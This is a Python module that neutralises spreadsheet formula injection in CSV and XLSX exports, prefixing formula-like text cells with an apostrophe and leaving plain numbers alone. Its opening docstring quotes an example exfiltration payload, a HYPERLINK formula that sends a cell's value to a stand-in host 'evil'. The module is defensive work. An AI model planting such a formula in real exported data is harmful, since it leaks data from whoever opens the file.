"""Spreadsheet-safe text cells: one rule for every export (CSV, XLSX and any later one).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
tab or carriage return can lead into one), so ``=HYPERLINK("http://evil/?"&A1)`` typed as a
firm name would run on the programme officer's computer. Such a text gets a leading
apostrophe, which spreadsheets read as "this is text" and do not show (the OWASP advice).

A plain number (``-5``, ``+84912345678``, ``-1.5e3``) is left alone: it can run nothing, and
quoting it would turn numbers into text (``+84 912 345 678``, with spaces, is text and is quoted). Only text is touched; numbers,
booleans and empty cells pass through.

Pure: no pandas needed for one cell; ``neutralise_series`` does a whole column at once and
touches each distinct value of a categorical column once.
"""

from __future__ import annotations

import re
from typing import Any

# The characters a spreadsheet may start a formula with (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The same as a regular expression, for vectorised engines (pandas .str, pyarrow.compute).
FORMULA_START_PATTERN = r"^[=+\-@\t\r]"
# A plain decimal number: safe as it is.
PLAIN_NUMBER_PATTERN = r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER_PATTERN)
PREFIX = "'"


def needs_neutralising(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(text)


def neutralise_cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: a formula-like text gets a leading ``'``;
    anything else comes back unchanged (the same object)."""
    if isinstance(value, str) and needs_neutralising(value):
        return PREFIX + value
    return value


def neutralise_series(series):
    """A pandas Series with every formula-like text cell neutralised (others unchanged).

    Categorical columns: only the categories are checked, so a million rows with a thousand
    distinct values cost a thousand checks."""
    import pandas as pd

    if isinstance(series.dtype, pd.CategoricalDtype):
        categories = series.cat.categories
        fixed = [neutralise_cell(c) for c in categories]
        if all(a is b for a, b in zip(fixed, categories)):
            return series
        if len(set(fixed)) == len(fixed):
            return series.cat.rename_categories(fixed)
        return series.astype(object).map(neutralise_cell)  # "=x" and "'=x" both present
    if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
        text = series.astype("string")
        risky = text.str.match(FORMULA_START_PATTERN, na=False) & ~text.str.match(PLAIN_NUMBER_PATTERN, na=False)
        if not risky.any():
            return series
        out = series.copy()
        out[risky] = PREFIX + text[risky]
        return out
    return series  # numbers, booleans, dates: nothing a spreadsheet would run


def neutralise_frame(frame):
    """A pandas DataFrame with every text column neutralised (a new frame; the input is kept)."""
    out = frame.copy(deep=False)
    for i in range(len(frame.columns)):  # by position: column names may repeat
        out.isetitem(i, neutralise_series(frame.iloc[:, i]))
    return out


__all__ = [
    "FORMULA_START",
    "FORMULA_START_PATTERN",
    "PLAIN_NUMBER_PATTERN",
    "needs_neutralising",
    "neutralise_cell",
    "neutralise_frame",
    "neutralise_series",
]
